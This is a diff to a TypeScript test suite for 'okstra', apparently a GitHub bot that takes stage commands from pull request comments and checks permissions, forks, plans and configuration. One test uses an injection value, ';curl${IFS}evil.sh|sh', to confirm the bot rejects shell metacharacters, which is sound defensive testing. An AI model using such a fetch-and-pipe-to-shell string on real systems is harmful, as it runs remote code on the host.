@@ -42,6 +42,11 @@ function accepted(gh: GitHubMock, role = 'write'): GitHubMock {
   return gh.token().reaction(COMMENT_ID).config(CONFIG).permission(USER, role);
 }
 
+/** A launch command's pull request and files are read alongside the sender's role, so a refused sender has them read too. */
+function prefetched(gh: GitHubMock): GitHubMock {
+  return gh.pull(1, { headSha: HEAD_SHA }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]);
+}
+
 /** The pull request (#1, same repository) that adds the plan, and the plan itself at its head. */
 function planOnPullRequest(gh: GitHubMock): GitHubMock {
   return gh.pull(1, { headSha: HEAD_SHA }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }, { filename: 'README.md' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
@@ -87,7 +92,7 @@ describe('issue_comment.created', () => {
   });
 
   it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
-    const gh = accepted(new GitHubMock(REPO), 'read').reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(accepted(new GitHubMock(REPO), 'read')).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
     expect(gh.bodies.comment).toEqual([{ body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.` }]);
@@ -111,7 +116,7 @@ describe('issue_comment.created', () => {
   });
 
   it('refuses a pull request from a fork unless the config allows forks', async () => {
-    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).reaction(COMMENT_ID).comment(1);
+    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, []).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
     expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
@@ -141,13 +146,14 @@ describe('issue_comment.created', () => {
 
   it('refuses a stage that is not in the plan, naming its stages', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).reaction(COMMENT_ID).comment(1);
+    // The workflow file is read alongside the ledger, before the stage is known to be missing.
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow().reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 9'));
     expect(gh.bodies.comment?.[0]?.body).toBe(`@${USER} okstra:\n\n- \`/okstra stage 9\`: stage 9 is not in plan \`password-reset\` (its stages: 1, 2, 3).`);
   });
 
-  it('refuses a value carrying shell metacharacters before anything is read or started', async () => {
-    const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
+  it('refuses a value carrying shell metacharacters before anything is started', async () => {
+    const gh = prefetched(accepted(new GitHubMock(REPO))).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 2 --executor codex;curl${IFS}evil.sh|sh'));
     const body = String(gh.bodies.comment?.[0]?.body);
     expect(body).toContain('contains characters okstra does not accept (`;` `$` `{` `}` `|`)');
@@ -164,8 +170,8 @@ describe('issue_comment.created', () => {
   it('runs several commands in order and answers each that needs it in one reply', async () => {
     const gh = accepted(new GitHubMock(REPO));
     planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow().createCheck(5004).dispatch();
-    // The second command resolves the plan again (each command stands alone) and finds stage 3 blocked.
-    gh.pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1)]);
+    // The second command reads the plan and the ledger again (each command stands alone; the pull request and its files are read once) and finds stage 3 blocked.
+    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1)]).workflow();
     gh.reaction(COMMENT_ID, 2).comment(1);
     await receive(prComment('/okstra stage 2\n/okstra stage 3\n/okstra help'));
     expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2' });
@@ -209,7 +215,7 @@ describe('issue_comment.created', () => {
   });
 
   it('answers a configuration that does not validate, naming the key', async () => {
-    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').permission(USER, 'write')).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.comment?.[0]?.body).toContain('.okstra/config.yml: bot: unknown key "permision" (did you mean "permission"?)');
   });
@@ -218,15 +224,15 @@ describe('issue_comment.created', () => {
     const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID);
     // Probot's loader looks in the repository, then in the owner's `.github` repository, for each path.
     gh.file('.okstra/config.yml', null).file('.okstra/config.yml', null, undefined, { owner: 'Codertocat', repo: '.github' });
-    gh.file('.github/okstra.yml', 'bot:\n  permission: admin\n').permission(USER, 'write').reaction(COMMENT_ID).comment(1);
+    prefetched(gh.file('.github/okstra.yml', 'bot:\n  permission: admin\n').permission(USER, 'write')).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.comment?.[0]?.body).toContain('okstra takes commands from people with `admin` access or more.');
   });
 
   it('refuses a stage that is already done, and one in progress', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]);
-    gh.pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')]);
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow();
+    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')]).workflow();
     gh.reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 1\n/okstra stage 2'));
     const body = String(gh.bodies.comment?.[0]?.body);
